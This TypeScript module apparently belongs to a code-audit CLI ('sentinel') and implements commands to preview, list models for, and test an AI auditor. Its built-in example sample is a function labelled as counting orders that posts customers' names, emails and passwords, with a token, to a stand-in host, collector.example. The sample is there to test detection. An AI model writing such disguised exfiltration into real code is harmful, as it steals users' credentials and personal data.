import { randomBytes } from 'node:crypto';
import type { AuditRequest } from '../audit/auditor.ts';
import { loadRedact } from '../auditSource.ts';
import { createChecker } from '../checker.ts';
import { firstLine } from '../hello.ts';
import { expandTemplates } from '../policy/templates.ts';
import { builtInPolicies } from '../product.ts';
import { AuditTrial, type TrialModels, type TrialPreview, type TrialReport } from '../protocol/auditTrial.ts';
import { CommandError, EXIT } from './exitCodes.ts';

const INPUT_MS = 5_000;
const LIST_MS = 15_000;

/** Breaks no gate: only meaning tells that it is wrong. The credential is made up anew here, and replaced before anything is sent. */
const EXAMPLE = {
  name: 'src/share.js',
  language: 'javascript',
  text: `// Counts the orders of last month.
const token = '{{github-token}}';

export async function countOrders(customers) {
  await fetch('https://collector.example/upload', {
    method: 'POST',
    headers: { authorization: token },
    body: JSON.stringify(customers.map(({ name, email, password }) => ({ name, email, password }))),
  });
  return customers.length;
}
`,
  intent: 'Write a function that counts the orders of last month.',
};

async function readTrial(): Promise<AuditTrial> {
  const trial = AuditTrial.safeParse(parse(await firstLine(process.stdin, INPUT_MS)));
  if (trial.success) return trial.data;
  const where = trial.error.issues.map((issue) => issue.path.join('.')).slice(0, 5);
  throw new CommandError(
    EXIT.usage,
    `Standard input must bring the auditor's settings as one line of JSON; wrong at: ${where.join(', ')}.`,
  );
}

function parse(line: string): unknown {
  try {
    return JSON.parse(line);
  } catch {
    return undefined;
  }
}

/** The request that an audit of the sample, else of the example, would make. */
async function requestFor({ policies, sample }: AuditTrial): Promise<AuditRequest> {
  const redact = await loadRedact();
  const checker = createChecker({ policies: policies ?? { builtIn: builtInPolicies(), workspace: [] }, auditOffBecause: 'not asked for' });
  try {
    const { prose } = await checker.policies();
    const { name, language, text, intent } = sample === undefined ? EXAMPLE : { ...sample, intent: undefined };
    return {
      purpose: 'output',
      kind: 'file',
      text: redact(sample === undefined ? expandTemplates(text).text : text),
      name: redact(name),
      ...(language === undefined ? {} : { language: redact(language) }),
      ...(intent === undefined ? {} : { intent }),
      policies: prose,
    };
  } finally {
    await checker.close();
  }
}

function print(report: TrialReport | TrialPreview | TrialModels): void {
  process.stdout.write(`${JSON.stringify(report)}\n`);
}

/** `sentinel audit preview`: prints a request as it would be sent. Opens no connection. @returns 0 */
export async function auditPreview(): Promise<number> {
  const [{ compose }, trial] = await Promise.all([import('../audit/prompt.ts'), readTrial()]);
  const { system, user } = compose(await requestFor(trial), randomBytes);
  print({ system, user });
  return EXIT.pass;
}

/** `sentinel audit models`: what the service offers. @returns 0 if it could be asked, 1 if not. */
export async function auditModels(): Promise<number> {
  const [{ listModels }, { audit }] = await Promise.all([import('../audit/models.ts'), readTrial()]);
  const listed = await listModels(audit, AbortSignal.timeout(LIST_MS));
  print(listed);
  return 'models' in listed ? EXIT.pass : EXIT.review;
}

/** `sentinel audit test`: one request about the example. @returns 0 if it was answered, 1 if not. */
export async function auditTest(): Promise<number> {
  const [{ createAuditor }, redact, given] = await Promise.all([import('../audit/create.ts'), loadRedact(), readTrial()]);
  const { sample: _neverSent, ...trial } = given;
  const result = await createAuditor(trial.audit, { redact }).audit(await requestFor(trial), new AbortController().signal);
  if (result.state !== 'ran') {
    print({ state: result.state, why: result.why, ms: result.ms, model: trial.audit.model });
    return EXIT.review;
  }
  const [first] = result.findings;
  const message = first === undefined ? {} : { message: first.message };
  print({ state: 'ran', ms: result.ms, model: result.model, objected: first !== undefined, ...message });
  return EXIT.pass;
}
